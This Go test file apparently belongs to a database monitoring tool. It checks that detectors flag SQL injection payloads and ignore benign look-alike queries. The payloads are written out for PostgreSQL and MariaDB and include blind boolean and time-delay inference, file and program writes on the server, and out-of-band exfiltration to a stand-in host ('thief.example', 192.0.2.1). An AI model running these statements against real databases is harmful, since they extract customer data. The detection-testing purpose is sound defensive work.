package waysout

import (
	"slices"
	"strings"
	"testing"

	"honeyrow/event"
	"honeyrow/rules"
)

// judged are ways in which no value of the row is on the wire, or not on this
// one: they are judged by what the statement asks (alerts.statements). The
// statements beside them look alike and ask ordinary things.
var judged = []struct {
	way, detector  string
	pg, my         string // nothing: the product has no such way
	pgCalm, myCalm string
}{
	{
		"one character at a time, by a comparison", "boolean-inference",
		"select note from orders where id = 1 and (select substr(email, 1, 1) from customers where id = 900001) = 'A'",
		"select note from orders where id = 1 and ascii(substring((select email from customers where id = 900001), 1, 1)) > 64",
		"select substr(note, 1, 1) from orders where substr(note, 1, 1) = 'o'",
		"select ascii(substring(note, 1, 1)) from orders where substring(note, 1, 1) = 'o'",
	},
	{
		"one character at a time, by CASE or IF", "boolean-inference",
		"select note from orders where id = case when (select email from customers where id = 900001) like 'A%' then 1 else 0 end",
		"select note from orders where id = if((select email from customers where id = 900001) like 'A%', 1, 0)",
		"select case when note like 'o%' then 1 else 0 end from orders where id = 1",
		"select if(note like 'o%', 1, 0) from orders where id = 1",
	},
	{
		"whether the answer comes late: sleep", "time-delay",
		"select note from orders where id = 1 and (select case when email like 'A%' then pg_sleep(0.01) end from customers where id = 900001) is null",
		"select note from orders where id = 1 and if((select email from customers where id = 900001) like 'A%', sleep(0.01), 0) = 0",
		"select note from orders where id = 1 and note not like 'pg_sleep%'",
		"select note from orders where id = 1 and note not like 'sleep(5)%'",
	},
	{
		"whether the answer comes late: work", "time-delay",
		"select note from orders where id = 1 and (select case when email like 'Z%' then (select count(*) from generate_series(1, 10000000)) end from customers where id = 900001) > 0",
		"select note from orders where id = 1 and if((select email from customers where id = 900001) like 'A%', benchmark(1000, md5(1)), 0) = 0",
		"select count(*) from generate_series(1, 100)", "select md5(note) from orders where id = 1",
	},
	{
		"whether an error comes", "boolean-inference",
		"select note from orders where id = 1 and (select case when email like 'A%' then 1 / 0 else 1 end from customers where id = 900001) = 1",
		"select note from orders where id = 1 and 1 = if((select email from customers where id = 900001) like 'A%', (select 1 union select 2), 1)",
		"select 100 * id / 3 from orders where id = 1", "select 100 * id / 3 from orders where id = 1",
	},
	{
		"a file of the server", "file-access",
		"copy (select email from customers where id > 900000) to '/nosuch/leak.txt'",
		"select email from customers where id > 900000 into outfile '/nosuch/leak.txt'",
		"copy (select note from orders where id = 1) to stdout", "select note from orders where id = 1 into @note",
	},
	{
		"a binary file of the server", "file-access",
		"select lo_export(lo_from_bytea(0, convert_to(email, 'UTF8')), '/nosuch/leak') from customers where id > 900000",
		"select email from customers where id > 900000 into dumpfile '/nosuch/leak'",
		"select convert_to(note, 'UTF8') from orders where id = 1", "select note into @note from orders where id = 1",
	},
	{
		"a program of the server", "file-access",
		"copy (select email from customers where id > 900000) to program 'cat > /dev/null'", "",
		"select note from orders where note = 'program'", "",
	},
	{
		"a cipher that cannot be made again", "hidden-values",
		"select pgp_sym_encrypt(email, 'k') from customers where id > 900000", "select encode(email, 'k') from customers where id > 900000",
		"select pgp_sym_encrypt(email, 'k') from customers where id = 5", "select encode(email, 'k') from customers where id = 5",
	},
	{
		"weights of a collation", "hidden-values",
		"", "select weight_string(email collate utf8mb4_unicode_ci) from customers where id > 900000",
		"", "select weight_string(note collate utf8mb4_unicode_ci) from orders where id = 1",
	},
	{
		"a link to another server", "out-of-band",
		"select dblink_exec('host=192.0.2.1', 'insert into loot values (' || quote_literal(email) || ')') from customers where id > 900000",
		`select load_file(concat('\\\\\\\\', (select email from customers where id = 900001), '.thief.example\\\\x'))`,
		"select note from orders where note like '%dblink%'", "select note from orders where note like '%thief.example%'",
	},
}

// judgedBy sends a statement and expects what the detector saw in it, and that
// it reaches the table.
func judgedBy(t *testing.T, g *gate, detector, sql string, send func(port string)) {
	t.Helper()
	p := newTap(t, g)
	g.seen()
	send(p.port())
	var found event.Detection
	eventually(t, "a detection by "+detector+" of "+sql, func() bool {
		g.mu.Lock()
		defer g.mu.Unlock()
		for _, d := range g.last {
			if d.Rule == rules.Injection {
				found = d
			}
		}
		return slices.ContainsFunc(found.Findings, func(f event.Finding) bool { return f.Detector == detector })
	})
	if !slices.ContainsFunc(found.Reach, func(r string) bool { return strings.HasSuffix(r, ".customers") }) {
		t.Errorf("%s: findings %+v, reach %v, want customers", sql, found.Findings, found.Reach)
	}
	g.seen()
}

func TestWhatOnlyTheStatementTellsIsJudgedByIt(t *testing.T) {
	f := mariadb(t)
	for _, j := range judged {
		if j.pg != "" {
			t.Run(j.way+"/PostgreSQL", func(t *testing.T) {
				judgedBy(t, &y.judge, j.detector, j.pg, func(port string) { dial(t, port, "application_name", j.way).query(j.pg).close() })
			})
		}
		if j.my != "" {
			t.Run(j.way+"/MariaDB", func(t *testing.T) {
				judgedBy(t, &f.judge, j.detector, j.my, func(port string) { dialMyAs(t, port, j.way).query(j.my).close() })
			})
		}
	}
}

// Parsing has a budget: on a busy machine a statement of a new shape is judged by
// its words alone, and must not pass for that.
func TestItIsJudgedWithoutAParserToo(t *testing.T) {
	f := mariadb(t)
	for _, j := range judged {
		if j.pg != "" {
			t.Run(j.way+"/PostgreSQL", func(t *testing.T) {
				judgedBy(t, &y.words, j.detector, j.pg, func(port string) { dial(t, port, "application_name", j.way).query(j.pg).close() })
			})
		}
		if j.my != "" {
			t.Run(j.way+"/MariaDB", func(t *testing.T) {
				judgedBy(t, &f.words, j.detector, j.my, func(port string) { dialMyAs(t, port, j.way).query(j.my).close() })
			})
		}
	}
}

func TestOrdinaryStatementsThatLookLikeItAreNotJudged(t *testing.T) {
	f := mariadb(t)
	for range 2 { // of a shape that is not known yet, and of a known one
		c, d := dial(t, newTap(t, &y.judge).port(), "application_name", "calm"), dialMyAs(t, newTap(t, &f.judge).port(), "calm")
		for _, j := range judged {
			if j.pgCalm != "" {
				c.need(j.pgCalm)
			}
			if calm := calmIn(f.release, j.myCalm); calm != "" {
				d.need(calm)
			}
		}
		c.close()
		d.close()
	}
	c, d := dial(t, newTap(t, &y.words).port(), "application_name", "calm"), dialMyAs(t, newTap(t, &f.words).port(), "calm")
	for _, j := range judged {
		if j.pgCalm != "" {
			c.need(j.pgCalm)
		}
		if calm := calmIn(f.release, j.myCalm); calm != "" {
			d.need(calm)
		}
	}
	c.close()
	d.close()
	for _, g := range []*gate{&y.judge, &f.judge, &y.words, &f.words} {
		for _, d := range g.take(t) {
			t.Errorf("%s: %s %+v", g.name, d.Summary, d.Findings)
		}
	}
}
